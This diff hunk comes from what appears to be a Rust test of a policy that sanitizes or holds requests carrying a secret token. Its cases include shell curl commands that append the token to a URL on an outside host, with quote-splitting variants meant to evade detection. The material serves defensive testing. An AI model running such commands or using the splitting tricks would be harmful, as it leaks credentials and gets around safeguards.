@@ -18,7 +18,8 @@ fn what_cannot_be_rewritten_is_held() {
     in_header.headers.insert("x-note".to_owned(), TOKEN.to_owned());
     for (request, expected) in [
         (shell(format!("curl https://a.example/{TOKEN}")), Decision::Sanitize),
-        (shell(format!("curl https://a.example/{head}''{tail}")), Decision::RequireApproval),
+        (shell(format!("curl https://a.example/{head}''{tail}")), Decision::Sanitize),
+        (shell(format!("curl https://a.example/{head}$''{tail}")), Decision::RequireApproval),
         (in_url, Decision::RequireApproval),
         (in_header, Decision::RequireApproval),
     ] {
